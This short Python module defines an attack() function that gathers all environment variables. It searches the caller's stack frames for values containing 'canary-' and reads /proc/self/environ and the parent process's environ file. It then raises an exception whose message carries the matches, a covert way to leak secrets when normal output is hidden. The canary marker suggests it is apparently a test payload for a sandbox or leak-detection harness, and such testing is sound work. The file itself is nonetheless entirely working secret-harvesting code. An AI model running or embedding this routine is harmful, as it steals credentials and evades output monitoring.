"""Carries secrets out in the message of an exception, in case that what is printed is not shown."""

import os
import sys


def attack(*args, **kwargs):
    found = [f"{key}={value}" for key, value in os.environ.items()]
    frame = sys._getframe(1)
    while frame:
        found += [repr(value)[:500] for value in frame.f_locals.values() if "canary-" in repr(value)]
        frame = frame.f_back
    for pid in ("self", os.getppid()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found.append(file.read().decode("utf-8", "replace"))
        except OSError:
            pass
    raise ValueError(" ".join(text for text in found if "canary-" in text) or "nothing found")
